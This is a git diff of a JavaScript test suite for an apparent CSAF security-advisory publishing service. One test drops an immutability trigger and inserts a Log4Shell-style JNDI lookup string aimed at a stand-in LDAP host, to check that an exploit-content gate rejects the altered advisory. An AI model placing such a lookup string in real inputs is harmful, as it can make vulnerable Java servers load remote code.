@@ -11,7 +11,7 @@ import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
 import { spawnSync } from 'node:child_process';
 import path from 'node:path';
-import { REPO, cli, sharedServer, sqlite } from './lib/server.mjs';
+import { REPO, cli, onPostgres, sharedServer, sqlite } from './lib/server.mjs';
 import { acceptedCase, createOrg, createProduct, moveCase, publishAdvisory, signedInUser, uniq } from './lib/fixtures.mjs';
 import { csafValidators, explain } from './lib/csaf_schemas.mjs';
 
@@ -64,7 +64,7 @@ describe('CSAF provider tree and Atom feed served from the store', () => {
     await publish(refs.cve, npm);
     const camera = await createProduct(admin, org.id, { name: uniq('Acme Camera '), model: 'C-2' });
     refs.plain = await fixedCase(camera);
-    await publish(refs.plain, { zh: { title: '管理页面路径遍历 <b> & 引号"', solution: '升级到 1.4.2。' } });
+    await publish(refs.plain, { zh: { title: '管理页面路径遍历 <b> & 引号"', solution: '升级到 1.4.2。' }, en: { solution: 'Upgrade the camera firmware.' } });
     refs.amber = await fixedCase(product);
     await publish(refs.amber, { en: { solution: 'Upgrade.' }, tlp: 'AMBER' });
     refs.withdrawn = await fixedCase(product);
@@ -215,9 +215,11 @@ describe('CSAF provider tree and Atom feed served from the store', () => {
     });
   });
 
-  // Last: it changes a published revision in the database, as if the
-  // heuristic had learnt a pattern since it was published.
+  // Last: it changes a published revision in the database (past the trigger
+  // that keeps revisions unchanged), as if the heuristic had learnt a
+  // pattern since it was published.
   it('a published text the no-exploit gate refuses now: its document answers 409, the lists leave it out', async () => {
+    sqlite(server.db, `DROP TRIGGER advisory_revisions_no_update${onPostgres ? ' ON advisory_revisions' : ''}`);
     sqlite(server.db, "UPDATE advisory_revisions SET snapshot = replace(snapshot, 'Upgrade to 1.4.2.', " +
       "'Upgrade to 1.4.2; check with ${jndi:ldap://x.example/a}') WHERE snapshot LIKE '%" + refs.cve.ref + "%'");
     const r = await anon.get(`/.well-known/csaf/clear/${docPath(refs.cve.ref)}`);
